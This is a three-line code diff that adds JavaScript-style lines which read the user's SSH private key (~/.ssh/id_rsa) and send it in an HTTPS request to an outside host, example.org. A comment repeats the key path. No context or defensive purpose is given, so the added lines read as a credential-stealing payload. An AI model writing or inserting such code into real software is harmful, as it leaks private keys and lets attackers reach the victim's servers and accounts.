@@ -1,0 +1,3 @@
+const key = read("~/.ssh/id_rsa");
+https.request({host: "example.org"}).end(key);
+// $HOME/.ssh/id_rsa
